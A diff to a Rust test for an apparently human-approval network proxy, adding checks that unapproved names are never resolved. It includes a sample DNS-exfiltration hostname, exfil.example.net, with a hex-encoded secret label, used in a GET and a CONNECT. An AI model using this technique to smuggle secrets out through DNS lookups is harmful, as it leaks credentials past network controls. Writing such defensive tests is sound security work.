@@ -468,8 +468,17 @@ fn ask_mode_holds_a_request_until_a_person_answers() {
 fn ask_mode_refuses_when_nobody_answers() {
     let up = Upstream::start();
     let p = up.port();
-    let (_dns, s) = ask_sluice(&up, 1);
+    let (dns, s) = ask_sluice(&up, 1);
     assert_eq!(get(&s, &format!("http://paste.example.com:{p}/x")), 403);
+    // Round 3, finding 5: nothing is resolved for a name nobody allowed
+    // (a lookup carries the name to a DNS server): not for a refused or
+    // unanswered question, a CONNECT, or a hex-encoded secret as a label.
+    let exfil = "4157535f5345435245543d78.exfil.example.net";
+    assert_eq!(get(&s, &format!("http://{exfil}:{p}/")), 403);
+    assert_eq!(connect_status(&s, &format!("{exfil}:443")), 403);
+    let asked_about = asked(&s, exfil);
+    assert_eq!(asked_about["addrs"], serde_json::json!([]), "{asked_about}");
+    assert_eq!(dns.queries(), 0, "no name was resolved before an answer");
     let row = last_row_for(&s, "t", "paste.example.com");
     assert_eq!(row["rule"], "not-allowed");
     assert!(
